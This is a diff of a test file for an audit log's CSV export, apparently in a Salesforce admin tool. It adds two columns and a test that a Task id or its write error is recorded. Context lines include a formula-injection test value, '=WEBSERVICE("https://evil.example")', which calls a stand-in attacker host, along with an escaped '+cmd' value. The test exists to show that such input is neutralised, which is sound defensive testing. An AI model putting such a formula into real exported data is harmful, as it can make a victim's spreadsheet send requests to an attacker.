@@ -60,7 +60,7 @@ describe('the audit log', () => {
     expect(row).toContain("'+cmd@example.com");
     expect(row).toContain('"Smith, ""Jo""\nAdmin"');
     expect(csv.split('\r\n')[0]).toBe(
-      '"when","admin","org","business unit","prospect","email","object","record","reason","outcome","error","written","attempts","skew ms","why"',
+      '"when","admin","org","business unit","prospect","email","object","record","reason","outcome","error","written","attempts","skew ms","why","salesforce task","undone by"',
     );
   });
 
@@ -68,11 +68,19 @@ describe('the audit log', () => {
     await recordEntry(entry('y', { reason: 'called back;=WEBSERVICE("https://evil.example")', email: 'a@b.example' }));
     const [, row] = (await auditCsv()).split('\r\n');
     const cells = row?.match(/"(?:[^"]|"")*"/g) ?? [];
-    expect(cells).toHaveLength(15);
+    expect(cells).toHaveLength(17);
     // Every character of the row is inside a quoted cell or is the comma between two.
     expect(cells.join(',')).toBe(row);
     expect(cells).toContain('"called back;=WEBSERVICE(""https://evil.example"")"');
     expect(cells).toContain('"a@b.example"');
+  });
+
+  it('carries the evidence Task’s id, or why it could not be written, so an auditor finds it in Salesforce', async () => {
+    await recordEntry(entry('with-task', { outcome: 'done', taskId: '00T5g000000AbCdEAK' }));
+    await recordEntry(entry('task-refused', { outcome: 'done', taskError: 'no-access' }));
+    const [, withTask, refused] = (await auditCsv()).split('\r\n');
+    expect(withTask?.endsWith('"00T5g000000AbCdEAK",""')).toBe(true);
+    expect(refused?.endsWith('"not written: no-access",""')).toBe(true);
   });
 
   it('exports entries this version could not read as they were stored, marked unreadable', async () => {
